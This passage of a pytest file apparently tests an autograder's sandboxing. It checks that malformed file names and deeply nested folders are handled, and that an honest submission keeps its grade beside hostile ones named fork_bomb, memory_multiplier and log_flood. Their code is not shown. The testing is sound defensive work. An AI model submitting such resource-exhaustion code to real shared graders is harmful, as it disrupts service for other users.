    submission("softmax_no_max_shift", klass / "alice")
    (klass / "alice" / os.fsdecode(b"notes-\xff.txt")).write_text("x")
    submission("softmax_no_max_shift", klass / os.fsdecode(b"b\xe9b"))
    submission("softmax_no_max_shift", klass / "carol")
    with deep_folder(klass / "carol", 1200):
        code, out, err = run_grade_class(klass, "--out", tmp_path / "out", "--only", "activations.relu*", "--rubric", CORPUS_RUBRIC)
    assert code == exits.OK, err
    rows = {r.student: r for r in gradebook.read_gradebook(tmp_path / "out" / "gradebook.csv")}
    assert {s: (r.status, r.submission) for s, r in rows.items()} == {
        "alice": ("graded", "alice"), "b_b": ("graded", "b\\xe9b"), "carol": ("unreadable", "carol")}
    assert "folders deep" in rows["carol"].detail


def honest_submission(dest):
    """The reference solution, as a student would hand it in."""
    dest.mkdir(parents=True)
    for path in sorted((ROOT / "reference").glob("*.py")):
        (dest / path.name).write_text(path.read_text())
    return dest


def graded_checks(folder):
    """{check id: score} of one student's results.json."""
    return {t["id"]: t["score"] for t in json.loads((folder / "results.json").read_text())["tests"]}


@pytest.mark.slow
def test_an_honest_student_keeps_the_grade_it_gets_alone_beside_a_fork_bomb_a_memory_multiplier_and_a_log_flood(tmp_path):
    """Issue 17: each sandbox has its own envelope (grader.envelope), so two at a time on one machine, one of them
    honest and the others hostile, give the honest one the very grade it gets when graded alone."""
    alone, batch = tmp_path / "alone", tmp_path / "batch"
    honest_submission(alone / "honest")
    honest_submission(batch / "honest")
    for case in ("fork_bomb", "memory_multiplier", "log_flood"):
        submission(case, batch / case)
    options = ["--rubric", CORPUS_RUBRIC]
    code, _, err = run_grade_class(alone, "--out", tmp_path / "out-alone", "--jobs", 1, *options)
    assert code == exits.OK, err
    code, _, err = run_grade_class(batch, "--out", tmp_path / "out-batch", "--jobs", 2, *options)
    assert code == exits.OK, err
    by_alone = {r.student: r for r in gradebook.read_gradebook(tmp_path / "out-alone" / "gradebook.csv")}
    rows = {r.student: r for r in gradebook.read_gradebook(tmp_path / "out-batch" / "gradebook.csv")}
    assert by_alone["honest"].status == rows["honest"].status == "graded"
    assert rows["honest"].total == by_alone["honest"].total == "100"
    assert graded_checks(tmp_path / "out-batch" / "honest") == graded_checks(tmp_path / "out-alone" / "honest")
    for case in ("fork_bomb", "memory_multiplier", "log_flood"):
        assert rows[case].status == "graded" and float(rows[case].total) < 100, rows[case]
